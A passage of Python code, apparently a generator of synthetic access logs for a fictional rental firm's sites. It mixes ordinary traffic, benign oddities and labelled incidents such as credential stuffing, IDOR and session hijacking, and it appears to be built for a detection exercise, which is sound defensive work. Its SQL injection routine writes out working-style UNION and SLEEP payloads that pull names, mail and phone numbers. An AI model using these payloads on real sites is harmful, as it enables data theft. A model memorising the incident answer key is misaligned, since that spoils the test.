                self.room(),
                r.choice((200, 200, 200, 304, 404)),
                ua=GOOGLE,
            )
        for _ in range(self.tail(70, 0.4)):
            self.hit(
                "www",
                self.T(d, 24 * r.random()),
                f"40.77.167.{r.randrange(1, 99)}",
                "-",
                "GET",
                self.room(),
                r.choice((200, 200, 304)),
                ua=BING,
            )
        for k in range(96):
            for s in ("www", "mypage", "yoyaku"):
                self.hit(
                    s,
                    self.T(d, k / 4) + 3 + r.random(),
                    "203.0.113.77",
                    "-" if s != "mypage" else "",
                    "GET",
                    "/healthz",
                    200,
                    2,
                    MONITOR,
                )
        for _ in range(self.tail(7, 0.6)):
            ip, s, t = (
                self.hosting(),
                r.choice(("www", "www", "mypage", "yoyaku", "mise-" + r.choice(list(SHOPS)))),
                self.T(d, 24 * r.random()),
            )
            ua = r.choice(
                ("Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "-", "curl/8.5.0", "Mozilla/5.0")
            )
            for _ in range(1 + int(r.paretovariate(1.1)) % 14):
                t += r.random() * 3
                self.hit(s, t, ip, "-" if s != "mypage" else "", "GET", r.choice(NOISE), 404, ua=ua)
        for s in SHOPS:
            h = f"https://fr{s}.hinata-fc.example"
            for _ in range(self.tail(8 if weekend else 6, 0.4)):
                ip, ua, t = (
                    (self.mobile(), self.phone_ua(), self.T(d, self.day_hour()))
                    if r.random() < 0.7
                    else (self.home(), self.pc_ua(), self.T(d, self.day_hour()))
                )
                for _ in range(1 + int(r.expovariate(1 / 2.5))):
                    t += 5 + r.expovariate(1 / 30)
                    self.hit(
                        "mise-" + s,
                        t,
                        ip,
                        "-",
                        "GET",
                        r.choice(
                            (
                                "/",
                                "/rooms",
                                f"/rooms/{r.randrange(100, 260)}",
                                "/access",
                                "/staff",
                                "/css/site.css",
                            )
                        ),
                        ua=ua,
                        ref=h + "/",
                    )
                if r.random() < 0.2:
                    self.hit(
                        "mise-" + s, t + 70, ip, "-", "POST", "/inquiry", 302, 0, ua, h + "/inquiry"
                    )
            for _ in range(self.tail(14, 0.3)):
                self.hit(
                    "mise-" + s,
                    self.T(d, 24 * r.random()),
                    f"66.249.66.{r.randrange(1, 60)}",
                    "-",
                    "GET",
                    r.choice(("/", "/robots.txt", f"/rooms/{r.randrange(100, 260)}")),
                    ua=GOOGLE,
                )

    def room(self) -> str:
        """A page of the public site."""
        r = self.rng
        return r.choice(
            (
                f"/rent/{r.choice(('kita', 'minato', 'sakura', 'daigaku', 'midori'))}/",
                f"/room/P{r.randrange(20000, 31000):06}",
                f"/room/P{r.randrange(20000, 31000):06}",
            )
        )

    def visit(self, ip: str, ua: str, t: float, d: int, ref: str = "") -> None:
        """Somebody looks for a flat, asks, perhaps books a viewing."""
        r, h = self.rng, "https://" + HOST["www"]
        ref = ref or r.choice(
            (
                "-",
                "https://www.google.com/",
                "https://www.google.com/",
                "https://sumai-matome.example/",
            )
        )
        for k in range(1 + int(r.expovariate(1 / 4.2))):
            target = self.room() if k else r.choice(("/", "/", self.room()))
            if r.random() < 0.18:
                target = f"/search?area={r.choice(('kita', 'minato', 'sakura'))}&rent={r.randrange(4, 14)}&page={r.randrange(1, 5)}"
            self.hit(
                "www", t, ip, "-", "GET", target, 200 if r.random() < 0.97 else 404, ua=ua, ref=ref
            )
            ref, t = h + target, t + 6 + r.expovariate(1 / 40)
        if r.random() < 0.05:
            self.hit("www", t, ip, "-", "POST", "/contact", 302, 0, ua, h + "/contact")
        if r.random() < 0.2:
            y, p = "https://" + HOST["yoyaku"], f"P{r.randrange(20000, 31000):06}"
            self.hit("yoyaku", t + 5, ip, "-", "GET", f"/v/{p}", ua=ua, ref=ref)
            if r.random() < 0.55:
                no, k = self.booking(1, d), f"{r.getrandbits(32):08x}"
                self.hit("yoyaku", t + 60, ip, "-", "POST", "/book", 302, 0, ua, y + f"/v/{p}")
                for j in range(1 + (r.random() < 0.4)):
                    self.hit(
                        "yoyaku",
                        t + 62 + j * r.expovariate(1 / 9000),
                        ip,
                        "-",
                        "GET",
                        f"/confirm?no={no}&k={k}" if r.random() < 0.8 else f"/confirm?no={no}",
                        ua=ua,
                        ref="-",
                    )

    def batches(self, d: int) -> None:
        """Accounts of programs."""
        r = self.rng
        for h, target, size in (
            (2.25, "/crm/export/portal-feed.csv", 2_400_000),
            (2.6, "/crm/export/guarantor-company.csv", 310_000),
            (5.5, "/crm/customers?changed=1", 88_000),
        ):
            self.hit(
                "kokyaku",
                self.T(d, h) + 5 * r.random(),
                "10.20.0.15",
                "HINATA\\svc-sync",
                "GET",
                target,
                200,
                int(size * (1 + 0.03 * r.gauss(0, 1))),
                "python-requests/2.32.3",
            )
        for h in range(24):
            self.hit(
                "yoyaku",
                self.T(d, h + 0.083) + 4 * r.random(),
                "203.0.113.40",
                "svc-feed",
                "GET",
                "/api/bookings/changes",
                200,
                2000 + r.randrange(6000),
                "hinata-feed/1.8",
            )

    def ordinary(self) -> None:
        """The ordinary days of everybody."""
        for d in range(self.n):
            self.public_day(d)
            self.batches(d)
            self.night_desk(d)
            for p in self.people:
                if p.role in ("bpo", "auditor") or not self.works(p, d) or (p.user, d) in self.ill:
                    continue
                if p.role == "shop":
                    self.shop_day(p, d)
                    continue
                away = self.helper.get((p.user, d))
                remote = self.remote.get((p.user, d))
                self.tag = self.tags.get((p.user, d), "")
                if away:
                    self.office_day(
                        p,
                        d,
                        ip=f"10.20.{away}.{70 + int(p.number[1:]) % 20}",
                        ua=EDGE.format(v=143),
                        branch=away,
                    )
                elif remote:
                    self.office_day(p, d, ip=remote, ua=p.ua)
                elif self.wd(d) != 2 or p.branch == 0 or self.rng.random() < 0.03:
                    self.office_day(p, d, self.scale.get((p.user, d), 1.0))
                self.tag = ""

    # ---- incidents and annoyances -----------------------------------------------------------------------------------------------
    def plan(self) -> None:
        """What must be known before the days are lived: illness, helpers, trainees, campaigns."""
        r, n = self.rng, self.n
        self.ill = {(p.user, d) for p in self.people for d in range(n) if r.random() < 0.02}
        self.helper: dict[tuple[str, int], int] = {}
        self.remote: dict[tuple[str, int], str] = {}
        self.scale: dict[tuple[str, int], float] = {}
        self.tags: dict[tuple[str, int], str] = {}
        p = self.take("agent")
        p.off, to = (2, 3), p.branch % 12 + 1
        for d in range(2, n):
            if self.wd(d) == 1:
                self.helper[p.user, d] = to
                self.tags[p.user, d] = self.annoy(
                    [p.ad, p.user],
                    f"{p.name} helps at {BRANCHES[to]} on Tuesdays",
                    "The same every week since before; the hours and amounts are those of any day",
                    key="helper",
                )
        p = self.take("contract", "collect")
        p.joined = self.days[max(14, n - 16)]
        for d in range(n):
            if self.days[d] >= p.joined:
                self.scale[p.user, d] = 1.7
                self.tags[p.user, d] = self.annoy(
                    [p.ad],
                    "A new colleague at headquarters reads a lot to learn the work",
                    "Joined a few days ago (people.csv); from her own desk, in office hours, cases of her department",
                    key="new",
                )
        b = r.randrange(3, 12)
        self.moves.append((b, r.randrange(16, n - 4), self.home()))
        md = self.moves[0][1]
        for p in self.people:
            if p.branch == b and not p.shop:
                p.away += [md - 1]
                self.taken.add(p.user)
                for d in range(md, min(n, md + 3)):
                    self.tags[p.user, d] = self.annoy(
                        [self.moves[0][2], p.ad, p.user],
                        f"{BRANCHES[b]} moves into a new building: new subnet and new global address, one day closed",
                        "All of the branch change together and go on as before",
                        key="move",
                    )
        for i in range(3):
            self.www_factor[min(n - 1, n // 2 + i)] *= 1.4
        self.campaign = n // 2
        self.storm = r.randrange(15, n - 1)
        self.call_factor[self.storm] = 1.4
        self.portal_factor[self.storm] *= 1.5
        vp = r.randrange(16, n - 1)
        b2 = r.choice([x for x in range(1, 13) if x != b])
        for p in self.people:
            if p.branch == b2 and not p.shop:
                self.remote[p.user, vp] = p.phone
                self.tags[p.user, vp] = self.annoy(
                    [p.ad],
                    f"The line of {BRANCHES[b2]} is down: everybody works by the telephone's network for a day",
                    "The whole branch at once, their own customers, usual amounts, back the next day",
                    key="line",
                )
        p = self.take("owner", "support")
        back = 33 + r.randrange(max(1, n - 40))
        p.away = list(range(2, back))
        for d in range(back, n):
            self.tags[p.user, d] = self.annoy(
                [p.ad],
                "Back from leave after a month and more",
                "Her own desk and hours, her department's ordinary work",
                key="back",
            )
        self.rename = self.take("agent")

    keys: dict[str, str]

    def annoy(self, actors: list[str], what: str, why: str, key: str = "") -> str:
        """Note an annoyance; the tag its lines carry."""
        if not hasattr(self, "keys"):
            self.keys = {}
        if key in self.keys:
            a = next(x for x in self.annoyances if x["id"] == self.keys[key])
            a["actors"] += [x for x in actors if x not in a["actors"]]
            return a["id"]
        aid = f"a{len(self.annoyances) + 1:02}"
        self.annoyances.append(
            {
                "id": aid,
                "first_day": "",
                "last_day": "",
                "site_ids": [],
                "actors": list(actors),
                "what": what,
                "why_not": why,
            }
        )
        if key:
            self.keys[key] = aid
        return aid

    def open(
        self,
        grade: str,
        family: str,
        actors: list[str],
        what: str,
        how: str,
        woken: bool = True,
        sites: list[str] | None = None,
    ) -> dict[str, Any]:
        """Note an incident; lines written from now on carry its tag."""
        iid = f"i{len(self.incidents) + 1:02}"
        inc = {
            "id": iid,
            "grade": grade,
            "family": family,
            "first_day": "",
            "last_day": "",
            "site_ids": sites or [],
            "actors": actors,
            "what": what,
            "how_seen": how,
            "lines": 0,
            "woken": woken,
        }
        self.incidents.append(inc)
        self.tag = iid
        return inc

    def annoyances_all(self) -> None:
        """Everything else that looks odd and is not."""
        r, n = self.rng, self.n
        ri = lambda lo, hi: r.randrange(lo, max(lo + 1, hi))  # noqa: E731

        def note(actors: list[str], what: str, why: str) -> None:
            self.tag = self.annoy(actors, what, why)

        p = self.take("account")
        note(
            [p.ad],
            "Month-end closing: exports of arrears and owners for all branches, until late",
            "Each month's end; the accounting desk's own task from its own PC",
        )
        ends = [
            d
            for d in range(n)
            if (self.days[d] + timedelta(days=1)).day == 1 or self.days[d].day == 1
        ]
        for d in ends:
            if self.wd(d) < 5:
                for b in range(1, 13):
                    self.crm(
                        p,
                        self.T(d, 17.5 + b * 0.12 + 0.05 * r.random()),
                        f"/crm/export/arrears.csv?branch={b:02}",
                        200,
                        int(55000 * math.exp(r.gauss(0, 0.25))),
                    )
                self.crm(
                    p,
                    self.T(d, 19.4 + 0.3 * r.random()),
                    "/crm/export/owners-payment.csv",
                    200,
                    690000 + r.randrange(30000),
                )
        monday = next(d for d in range(ri(13, n - 12), n) if self.wd(d) == 0)
        self.audit_from, self.audit_to = self.days[monday], self.days[min(n - 1, monday + 4)]
        note(
            [f"HINATA\\{u}" for u in AUDIT_USERS],
            "The accountants' audit week: samples of contracts with papers, of all branches",
            "Announced: people.csv and privileges.csv give exactly these days",
        )
        for p in self.byrole["auditor"]:
            for d in range(monday, min(n, monday + 5)):
                if self.days[d] in HOLIDAYS | CLOSED:
                    continue
                self.crm_login(p, self.T(d, 9.6 + 0.4 * r.random()))
                for _ in range(self.tail(38, 0.3)):
                    self.record(
                        p,
                        self.T(d, self.clock(p)),
                        self.customer(r.randrange(1, 13), d, old=r.random() < 0.7),
                        papers=r.random() < 0.6,
                    )
        c = r.choice(self.tenants)
        u = "T" + c[1:3] + c[4:]
        ip, ua = self.device(u)
        d, t = ri(15, n), 0.0
        note(
            [u, ip],
            "A tenant forgot his password: a dozen wrong tries, then a reset and in",
            "One account, his own usual address and telephone, own contract only",
        )
        t = self.T(d, 20.5 + r.random())
        for _ in range(ri(9, 16)):
            t += 8 + r.expovariate(1 / 20)
            self.my(t, ip, u, ua, "", "/login", 401, "POST", ref="/login")
        self.my(t + 30, ip, "", ua, "", "/password/reset", 302, "POST", ref="/password/reset")
        self.tenant_visit(c, t + 200, ip, ua, 0)
        d, ip = ri(15, n - 1), self.home()
        note(
            [ip],
            "Forty employees of one firm, who live in its rented flats, sign in from the firm's office after a notice",
            "One firm's address; each sees only his own contract; few failures",
        )
        for c in r.sample(self.tenants, 40):
            self.tenant_visit(c, self.T(d, 12 + 5 * r.random()), ip, self.pc_ua())
        note(
            ["www"],
            "Spring or autumn campaign by mail and LINE: many more visitors for three days",
            "Ordinary pages, referrers of the campaign; planned",
        )
        for k in range(180):
            d = min(n - 1, self.campaign + k % 3)
            self.visit(
                self.mobile(),
                self.phone_ua(),
                self.T(d, self.day_hour()),
                d,
                "https://liff.line.me/campaign",
            )
        d, ip = ri(15, n), "198.51.100.23"
        note(
            [ip],
            "The partner portal's crawler reads all listings anew in a night",
            "A welcome crawler that says its name, public listings only, known address of every night",
        )
        for k in range(n):
            for _ in range(900 if k == d else 25):
                self.hit(
                    "www", self.T(k, 1 + 3 * r.random()), ip, "-", "GET", self.room(), ua=PARTNER
                )
        d = r.choice([x for x in range(15, n) if self.wd(x) == 2])
        note(
            ["yoyaku"],
            "Planned maintenance of the booking site on a Wednesday night: 503 from one to five",
            "The closed day, at night, tidy 503, back at five; announced on the site",
        )
        self.down.append(("yoyaku", self.T(d, 1), self.T(d, 5), 503, 1.0))
        self.hit(
            "yoyaku",
            self.T(d, 0.99),
            "203.0.113.77",
            "-",
            "GET",
            "/maintenance.html",
            200,
            900,
            MONITOR,
        )
        d = ri(15, n)
        note(
            ["mypage"],
            "A deploy of the portal: 502 for four minutes at lunch, some old scripts 404 after",
            "Minutes only, followed by normal service",
        )
        self.down.append(("mypage", self.T(d, 12.4), self.T(d, 12.47), 502, 1.0))
        for _ in range(25):
            self.my(
                self.T(d, 12.4 + 3 * r.random()),
                self.mobile(),
                "",
                self.phone_ua(),
                "",
                "/js/app.4f2c.js",
                404,
            )
        d = self.storm
        name = "typhoon" if self.days[d].month in (7, 8, 9, 10) else "storm"
        note(
            ["mypage", "kokyaku"],
            f"A {name}: tenants report leaks, the night desk and the support desk open many more records",
            "Everybody at once, on one day, with requests posted by tenants",
        )
        for c in r.sample(self.tenants, 45):
            self.tenant_visit(c, self.T(d, 15 + 8 * r.random()))
        note(
            sorted(p.ad for p in self.byrole["area"]),
            "Area managers have four branches each and open customers of all of them",
            "Their post; the same four branches every week",
        )
        for p in self.byrole["area"]:
            for d in self.workdays(p, 15, n - 1)[:4]:
                self.record(p, self.T(d, self.clock(p)), self.customer(r.choice(p.posts), d))
        d = ri(15, n)
        note(
            ["HINATA\\svc-sync"],
            "The nightly feed failed (500) and is run again at ten in the morning",
            "Same host, same program, same file and size as every night",
        )
        self.hit(
            "kokyaku",
            self.T(d, 2.3),
            "10.20.0.15",
            "HINATA\\svc-sync",
            "GET",
            "/crm/export/portal-feed.csv",
            500,
            1208,
            "python-requests/2.32.3",
        )
        self.hit(
            "kokyaku",
            self.T(d, 10.1),
            "10.20.0.15",
            "HINATA\\svc-sync",
            "GET",
            "/crm/export/portal-feed.csv",
            200,
            2_410_118,
            "python-requests/2.32.3",
        )
        note(
            ["192.0.2.61"],
            "The contracted vulnerability scan of the portal every Monday at four",
            "Same address and agent every week since before; says its name; gets nothing",
        )
        for d in range(n):
            if self.wd(d) == 0:
                for k in range(60):
                    self.my(
                        self.T(d, 4) + 2.1 * k + r.random(),
                        "192.0.2.61",
                        "",
                        "SecureCheck-Scheduled/4.1 (contract HJ-2025-118)",
                        "",
                        r.choice(NOISE) + f"?q={k}",
                        404,
                    )
        w = r.choice(self.owners)
        d = ri(15, n)
        note([w], "An owner downloads two years of statements for his tax adviser", "All his own")
        self.owner_visit(w, self.T(d, 20.2), d, 23)
        d = next((k for k in range(14, n) if self.days[k].day == 1), ri(15, n))
        note(
            ["kokyaku"],
            "Passwords run out on one day a month: many staff mistype the new one",
            "Many people, each at his own PC, each in after a few tries",
        )
        for p in r.sample(
            [q for q in self.people if q.role in ("agent", "contract", "collect", "seller")], 34
        ):
            if self.works(p, d) and (self.wd(d) != 2 or p.branch == 0):
                for _ in range(r.choice((1, 1, 2, 3, 4))):
                    self.crm(
                        p,
                        self.T(d, p.start + 0.3 * r.random()),
                        "/crm/login",
                        401,
                        1293,
                        "POST",
                        "",
                        "",
                        "/crm/login",
                    )
        p = self.take("seller")
        note(
            [p.ad],
            "A forgotten bookmark: an old report that is forbidden now, every morning",
            "One address, one refusal a day, for weeks",
        )
        for d in self.workdays(p, 0, n - 1):
            if self.wd(d) != 2:
                self.crm(p, self.T(d, p.start + 0.4), "/crm/admin/report-2023", 403)
        p = self.take("contract")
        d = r.choice(self.workdays(p, 16, n - 1))
        b = r.randrange(1, 13)
        note(
            [p.ad],
            "Renewal letters: one clerk opens 140 contracts of a branch one after the other by number",
            "Her department does it before each renewal season; letters export and updates stand between; her PC, office hours",
        )
        top = int(self.customer(b, d, old=True)[4:])
        self.crm(
            p,
            self.T(d, 9.4),
            f"/crm/customers?renewal={self.days[d].strftime('%Y-%m')}&branch={b:02}",
        )
        for k in range(140):
            t = self.T(d, 9.5) + k * 130 + 60 * r.random()
            self.crm(
                p,
                t,
                f"/crm/customers/C{b:02}-{top + k * 2 + r.randrange(2):05}",
                ref="/crm/customers",
            )
            self.crm(p, t + 40, f"/crm/customers/C{b:02}-{top + k * 2:05}/renewal", 302, 0, "POST")
        for q in (
            x for x in self.byrole["contract"] if x is not p
        ):  # colleagues have done the like for other branches before
            for d2 in r.sample(self.workdays(q, 0, 13) or [0], 1):
                b2 = r.randrange(1, 13)
                t2 = self.serial0[b2] - 4000
                self.annoyances[-1]["actors"].append(q.ad)
                for k in range(ri(40, 110)):
                    self.crm(
                        q,
                        self.T(d2, 9.5) + k * 140 + 60 * r.random(),
                        f"/crm/customers/C{b2:02}-{t2 + k * 2:05}",
                        ref="/crm/customers",
                    )
        s = r.choice(("04", "06"))
        note(
            [f"mise-{s}"],
            "A shop's server sends the same day's file twice",
            "A copy, no line more; nothing is lost",
        )
        d = ri(15, n - 1)
        self.copies.append((s, d))
        self.hit(
            f"mise-{s}",
            self.T(d, 23.4),
            f"66.249.66.{ri(1, 60)}",
            "-",
            "GET",
            "/robots.txt",
            ua=GOOGLE,
        )
        p, k = self.rename, ri(15, n - 5)
        new = p.user.split(".")[0][:1] + "." + r.choice(("honda", "ueno", "kudo", "noda"))
        self.newname = (p, new, k)
        note(
            ["HINATA\\" + new, new],
            "A colleague married: her account has a new name",
            "The same person number in people.csv, the same PC and customers, the old one is silent",
        )
        for h in self.hits:
            if h.t >= self.T(k, 0) and h.user in (p.user, p.ad):
                h.user, h.tag = h.user.replace(p.user, new), self.tag
        d = next((x for x in range(ri(15, n - 7), n) if self.wd(x) == 5), n - 5)
        ip, ua = self.mobile(), self.pc_ua()
        note(
            [ip],
            "Open house on a Saturday: 35 families book and confirm on the same tablet",
            "Each booking is followed by its own confirmation; a Saturday, day time",
        )
        for k in range(35):
            t, no = self.T(d, 10 + 7 * r.random()), self.booking(1, d)
            self.hit(
                "yoyaku",
                t,
                ip,
                "-",
                "POST",
                "/book",
                302,
                0,
                ua,
                "https://" + HOST["yoyaku"] + "/v/P023011",
            )
            self.hit(
                "yoyaku",
                t + 2,
                ip,
                "-",
                "GET",
                f"/confirm?no={no}&k={r.getrandbits(32):08x}",
                ua=ua,
            )
        p, c = self.take("contract", "support"), self.customer(r.randrange(1, 13), 0, old=True)
        note(
            [p.ad],
            "A lawyer's inquiry: one clerk of the contract desk opens one tenant again and again for two days",
            "Her department answers such inquiries; two days, office hours, history and papers once",
        )
        for d in self.workdays(p, ri(16, n - 8), n - 1)[:2]:
            for _ in range(8):
                self.record(p, self.T(d, self.clock(p)), c, papers=r.random() < 0.2, search=0.1)
        p = self.take("agent", branch=self.vip_branch)
        note(
            [p.ad],
            "The agent of a well-known customer (watched) opens him daily until the contract",
            "His own branch's running case, with viewings and an application beside it",
        )
        for d in self.workdays(p, 20, 30):
            if self.wd(d) != 2:
                self.crm(p, self.T(d, 11) + 300 * r.random(), f"/crm/applications/{self.vips[0]}")
                self.record(p, self.T(d, 11.2 + r.random()), self.vips[0])
                self.viewing(p, d, self.T(d, 15 + r.random()), p.branch, True)
        self.taken.add(p.user)
        d = next(
            (k - 1 for k in range(16, n) if self.days[k] in HOLIDAYS | CLOSED),
            ends[-1] if ends else n - 2,
        )
        while self.wd(d) >= 5 or self.days[d] in HOLIDAYS | CLOSED:
            d -= 1
        ps = [self.take("contract"), self.take("collect")]
        note(
            [p.ad for p in ps],
            "The evening before the holidays or the month's end: two clerks stay until ten to finish",
            "Own desks, running applications, a known busy evening, two together",
        )
        for p in ps:
            for _ in range(14):
                c = self.customer(r.randrange(1, 13), d)
                self.record(p, self.T(d, 19.3 + 2.7 * r.random()), c, papers=p.role == "contract")
        note(
            [f"66.249.66.{k}" for k in (3, 4)],
            "Search engines try robots.txt and old pages on all shops",
            "Welcome, public pages only",
        )
        for s in SHOPS:
            self.hit(
                "mise-" + s,
                self.T(n - 3, 5 + r.random()),
                f"66.249.66.{r.choice((3, 4))}",
                "-",
                "GET",
                "/old/index.html",
                404,
                ua=GOOGLE,
            )
        self.tag = ""

    # the catalogue of incidents; each takes whether it is spread over weeks
    def span(self, p: Person | None, slow: bool, length: int, late: bool = True) -> list[int]:
        """Days for an incident: on day 15 or later, mostly in the second half; a person's working days."""
        n, r = self.n, self.rng
        lo = n // 2 + 1 if late and r.random() < 0.8 else 15
        hi = n - (length if slow else 1)
        start = r.randrange(min(lo, hi - 1), hi) if lo < hi else max(14, hi)
        ok = [
            d
            for d in range(start, n)
            if p is None
            or (
                self.works(p, d)
                and (p.user, d) not in self.ill
                and (self.wd(d) != 2 or p.branch == 0)
            )
        ]
        return ok or [d for d in range(14, n) if p is None or self.works(p, d)][-1:]

    def leaver_export(self, slow: bool) -> None:
        p = self.take("agent")
        d = self.span(p, False, 1)[0]
        p.left = self.days[d] + timedelta(days=self.rng.randrange(4, 12))
        self.open(
            "easy",
            "export",
            [p.ad],
            f"{p.name}, who leaves soon, exports the customers of his and other branches in the evening",
            "Seven exports without a date limit after hours by one who exports once in months; left_on stands in people.csv",
        )
        self.crm_login(p, self.T(d, 21.2), typo=0)
        for k, b in enumerate([p.branch] + self.rng.sample(range(1, 13), 5)):
            self.crm(
                p,
                self.T(d, 21.3 + k * 0.11),
                f"/crm/export/customers.csv?branch={b:02}&since=2015-01-01",
                200,
                1_600_000 + self.rng.randrange(900_000),
            )
        self.crm(p, self.T(d, 22.1), "/crm/export/owners.csv", 200, 740_112)
        self.hits = [
            h
            for h in self.hits
            if h.user not in (p.ad, p.user) or h.t < self.T((p.left - self.days[0]).days + 1, 0)
        ]

    def stuffing(self, slow: bool) -> None:
        r, ip = self.rng, self.hosting()
        d = self.span(None, False, 1)[0]
        got = r.sample(self.tenants, 3)
        names = ["T" + c[1:3] + c[4:] for c in got]
        self.open(
            "easy",
            "login",
            [ip] + names,
            "Stolen passwords are tried on the portal by one address; three accounts open",
            "Hundreds of failures over hundreds of accounts in an hour, then 302 and contracts read by the same address",
        )
        t, ua = self.T(d, 3 + 2 * r.random()), CHROME.format(v=120)
        for k, c in enumerate(r.sample(self.tenants, 330)):
            t += r.expovariate(1 / 9)
            self.my(t, ip, "T" + c[1:3] + c[4:], ua, "", "/login", 401, "POST", ref="/login")
            if k % 110 == 70:
                c, s = got[k // 110], self.sid()
                self.my(t + 2, ip, names[k // 110], ua, s, "/login", 302, "POST", ref="/login")
                self.my(t + 4, ip, names[k // 110], ua, s, f"/contracts/{c}")
                self.my(t + 6, ip, names[k // 110], ua, s, "/account")

    def idor(self, slow: bool) -> None:
        r = self.rng
        if slow:
            w = r.choice(self.owners)
            ip, ua = self.device(w)
            self.open(
                "easy",
                "amount",
                [w],
                "An owner reads other owners' statements by changing the number in the address, some each evening",
                "One customer's account gets statements of dozens of other owners, ascending, on many days",
            )
            k = r.randrange(100, 300)
            for d in self.span(None, True, 10)[:9]:
                sid, t = self.my_login(self.T(d, 21 + 1.5 * r.random()), ip, w, ua), self.T(d, 22.6)
                for _ in range(r.randrange(12, 26)):
                    k, t = k + 1, t + 6 + r.expovariate(1 / 15)
                    self.my(
                        t,
                        ip,
                        w,
                        ua,
                        sid,
                        f"/owners/{self.owners[k]}/statements/{self.days[max(0, d - 30)].strftime('%Y-%m')}",
                        size=r.randrange(40000, 95000),
                    )
            return
        c = r.choice(self.tenants)
        u, b, d = "T" + c[1:3] + c[4:], c[1:3], self.span(None, False, 1)[0]
        ip, ua = self.device(u)
        self.open(
            "easy",
            "amount",
            [u],
            "A tenant counts contract numbers up and reads other tenants' contracts",
            "One tenant's session, 240 contracts of others in order, 200 each",
        )
        sid, t, k = self.my_login(self.T(d, 23), ip, u, ua, 0), self.T(d, 23.02), int(c[4:])
        self.my(t, ip, u, ua, sid, f"/contracts/{c}")
        for _ in range(240):
            k, t = k + 1, t + 1 + 2 * r.random()
            self.my(t, ip, u, ua, sid, f"/contracts/C{b}-{k:05}", 200 if r.random() < 0.8 else 404)

    def sqli(self, slow: bool) -> None:
        r, ip, d = self.rng, self.hosting(), self.span(None, False, 1)[0]
        self.open(
            "easy",
            "web",
            [ip],
            "SQL injection on the public search; the last answers are hundreds of kilobytes",
            "UNION and sleep in the area parameter by one address, first 500, then 200 with bodies of a size no search has",
        )
        t = self.T(d, 24 * r.random() * 0.9)
        for k in range(130):
            t += r.expovariate(1 / 6)
            pay = r.choice(
                (
                    "kita'%20AND%20SLEEP(5)--%20-",
                    "kita'%20OR%20'1'='1",
                    f"kita'%20ORDER%20BY%20{k % 12}--%20",
                    f"kita'%20UNION%20ALL%20SELECT%20{','.join(['NULL'] * (k % 9 + 1))}--%20",
                )
            )
            self.hit(
                "www",
                t,
                ip,
                "-",
                "GET",
                f"/search?area={pay}&rent=8",
                r.choice((500, 500, 200, 403)) if k < 110 else 200,
                None if k < 110 else r.randrange(220_000, 480_000),
                "sqlmap/1.8.4#stable (https://sqlmap.org)"
                if r.random() < 0.5
                else CHROME.format(v=109),
            )
            if k >= 110:
                self.hits[
                    -1
                ].target = f"/search?area=kita'%20UNION%20ALL%20SELECT%20name,mail,tel,NULL%20FROM%20contact%20LIMIT%20500%20OFFSET%20{(k - 110) * 500}--%20&rent=8"

    def errors(self, slow: bool) -> None:
        d = self.span(None, False, 1)[0]
        while self.wd(d) == 2 and d > 15:
            d -= 1
        inc = self.open(
            "easy",
            "errors",
            ["yoyaku"],
            "The booking site answers half of the requests with 500 from eleven to half past four",
            "5xx share from nothing to a half for hours, all users, during opening hours",
            sites=["yoyaku"],
        )
        self.down.append(("yoyaku", self.T(d, 11), self.T(d, 16.5), 500, 0.5))
        inc["first_day"] = inc["last_day"] = str(self.days[d])

    def silence(self, slow: bool) -> None:
        s, length = self.rng.choice(("02", "03", "07")), 6 if slow else 2
        d = self.span(None, True, length + 1)[0]
        inc = self.open(
            "easy",
            "silence",
            [f"mise-{s}"],
            f"The log of the shop {SHOPS[s]} stops in the forenoon and is not there for days",
            "No line of a site that has crawlers and visitors round the clock; not closed in the roster",
            sites=[f"mise-{s}"],
        )
        d = min(d, self.n - length)
        self.drops.append((f"mise-{s}", self.T(d, 10.6), self.T(d + length - 1, 24)))
        inc["first_day"], inc["last_day"] = (
            str(self.days[d]),
            str(self.days[min(self.n - 1, d + length - 1)]),
        )

    def no_auth(self, slow: bool) -> None:
        r, s, ip, d = (
            self.rng,
            self.rng.choice(("05", "06", "09")),
            self.home(),
            self.span(None, False, 1)[0],
        )
        self.open(
            "easy",
            "other",
            [f"mise-{s}", ip],
            f"After an update the inquiries of the shop {SHOPS[s]} open without signing in; a stranger and a crawler read them",
            "200 on /admin/inquiries/… with no user, where it was 302 or a user before",
        )
        for k in range(46):
            no = self.inquiry(s, d)
            who, ua = (
                (ip, self.pc_ua() if not k else ANDROID.format(a=14, v=142))
                if k % 2
                else (f"66.249.66.{7 + k % 3}", GOOGLE)
            )
            self.hit(
                f"mise-{s}",
                self.T(d, 13 + 7 * k / 46 + 0.1 * r.random()),
                who,
                "-",
                "GET",
                f"/admin/inquiries/{no}",
                200,
                None,
                ua,
            )

    def stolen(self, slow: bool) -> None:
        r, p, ip = self.rng, self.take("contract", "agent"), self.hosting()
        d = self.span(p, False, 1)[0]
        self.open(
            "easy",
            "place",
            [p.ad, ip],
            f"{p.name}'s account is used at night from a rented server: papers of customers of all branches",
            "A foreign server address, three at night, a scripted agent, 80 papers in 50 minutes",
        )
        self.crm_login(p, self.T(d, 2.4), ip, CHROME.format(v=126), 0)
        for k in range(80):
            self.crm(
                p,
                self.T(d, 2.5) + k * 36 + 20 * r.random(),
                f"/crm/customers/{self.customer(r.randrange(1, 13), d)}/papers",
                200,
                int(9e4 * math.exp(r.gauss(0, 0.7))),
                "GET",
                ip,
                CHROME.format(v=126),
            )

    def papers(self, slow: bool) -> None:
        r, p = self.rng, self.take("agent")
        d = self.span(p, False, 1)[0]
        b = r.choice([x for x in range(1, 13) if x != p.branch])
        self.open(
            "medium",
            "amount",
            [p.ad],
            f"{p.name} opens the guarantor papers of some forty customers of another branch in one afternoon",
            "Her own past is a paper or two a day of her own branch; these are of another, one after the other",
        )
        for k in range(r.randrange(34, 48)):
            c = self.customer(b, d)
            t = self.T(d, 13.6) + k * 240 + 200 * r.random()
            self.crm(p, t, f"/crm/customers/{c}", ref="/crm/search")
            self.crm(
                p, t + 9, f"/crm/customers/{c}/papers", 200, int(9e4 * math.exp(r.gauss(0, 0.7)))
            )

    def hijack(self, slow: bool) -> None:
        r, w, ip2 = self.rng, self.rng.choice(self.owners), self.hosting()
        ip, ua = self.device(w)
        d = self.span(None, False, 1)[0]
        self.open(
            "medium",
            "session",
            [w, ip2],
            "An owner's running session is taken over from another address, the bank account changed",
            "One session cookie, two addresses and two browsers in turn within minutes; POST on the bank page by the second",
        )
        sid, t = self.my_login(self.T(d, 19 + r.random()), ip, w, ua, 0), 0.0
        t = self.T(d, 20.05)
        for k in range(4):
            self.my(
                t + 200 * k, ip, w, ua, sid, r.choice(("/notices", f"/owners/{w}/bank", "/account"))
            )
            self.my(
                t + 200 * k + 70,
                ip2,
                w,
                CHROME.format(v=131),
                sid,
